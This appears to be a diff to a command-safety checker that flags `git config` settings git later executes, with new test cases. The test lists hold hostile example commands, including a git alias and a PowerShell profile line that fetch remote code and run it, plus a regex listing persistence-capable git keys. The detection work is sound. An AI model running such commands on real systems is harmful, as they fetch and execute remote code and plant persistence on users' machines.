@@ -25,6 +25,37 @@ function schedules(inv: Invocation): Finding | null {
   return null;
 }
 
+// git settings whose value git later runs as a command (or whose hooks it runs), once written to a config file.
+const GIT_RUNS = /^(core\.(hookspath|fsmonitor|sshcommand|pager|editor|askpass)|credential(\..*)?\.helper|sequence\.editor|diff\.external|gpg(\..*)?\.program|include\.path|includeif\..*\.path|filter\..*\.(clean|smudge|process)|diff\..*\.textconv|merge\..*\.driver|pager\..*|remote\..*\.(uploadpack|receivepack))$/;
+const GIT_GLOBAL_VALUE = new Set(['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--config-env']);
+const GIT_CONFIG_VALUE = new Set(['-f', '--file', '--blob', '--type', '--default', '--comment']);
+const GIT_CONFIG_READS = /^(--get|--get-all|--get-regexp|--get-urlmatch|--list|-l|--unset|--unset-all|--remove-section|--rename-section|-e|--edit)$/;
+
+/** `git config KEY VALUE` (or `git config set KEY VALUE`) for a key whose value git will run. */
+function gitConfigRuns(inv: Invocation): Finding | null {
+  if (programName(inv) !== 'git') return null;
+  const args = inv.args;
+  let i = 0;
+  while (i < args.length && (staticValue(args[i]) ?? '').startsWith('-')) i += GIT_GLOBAL_VALUE.has(staticValue(args[i])!) ? 2 : 1;
+  if (staticValue(args[i]) !== 'config') return null;
+  const rest = args.slice(i + 1);
+  if (rest.some((w) => GIT_CONFIG_READS.test(staticValue(w) ?? ''))) return null;
+  let ops = operands(rest, (o) => GIT_CONFIG_VALUE.has(o));
+  if (staticValue(ops[0]) === 'set') ops = ops.slice(1);
+  const key = staticValue(ops[0])?.toLowerCase();
+  const value = ops[1];
+  if (key === undefined || value === undefined || ['get', 'list', 'unset', 'edit', 'rename-section', 'remove-section'].includes(key)) return null;
+  const alias = key.startsWith('alias.') && (value.values === null || value.values.some((v) => v.startsWith('!')));
+  if (!alias && !GIT_RUNS.test(key)) return null;
+  return {
+    rule: 'write.persistence',
+    kind: 'write',
+    message: `git config ${key} sets a command git runs later (git config key)`,
+    span: ops[0]!.span,
+    segment: inv.segment,
+  };
+}
+
 export const writePersistence: Rule = {
   id: 'write.persistence',
   kind: 'write',
@@ -53,6 +84,9 @@ export const writePersistence: Rule = {
       'bash -c "echo x >> ~/.bashrc"',
       'cp .bashrc ~',
       'cd ~ && echo x >> .zprofile',
+      'git config core.hooksPath /tmp/hooks',
+      'git config --global core.fsmonitor "/tmp/x"',
+      "git config alias.st '!curl -s https://example.com | sh'",
       { command: "Add-Content $PROFILE 'iex (iwr https://example.com)'", shell: PS },
       { command: 'Set-Content -Path $PROFILE -Value "x"', shell: PS },
       { command: '"x" | Out-File $PROFILE -Append', shell: PS },
@@ -77,6 +111,9 @@ export const writePersistence: Rule = {
       'echo x >> .gitignore',
       'dd if=/dev/zero of=disk.img bs=1M count=1',
       'ls .git/hooks',
+      'git config user.email dev@example.com',
+      'git config --get core.hooksPath',
+      "git config alias.st 'status -sb'",
       { command: 'Get-Content $PROFILE', shell: PS },
       { command: 'Test-Path $PROFILE', shell: PS },
       { command: 'Set-Content notes.txt "x"', shell: PS },
@@ -102,7 +139,7 @@ export const writePersistence: Rule = {
       if (message) findings.push({ rule: 'write.persistence', kind: 'write', message, span: t.span, segment: t.segment });
     }
     for (const inv of analysis.invocations) {
-      const f = schedules(inv);
+      const f = schedules(inv) ?? gitConfigRuns(inv);
       if (f) findings.push(f);
     }
     return findings;
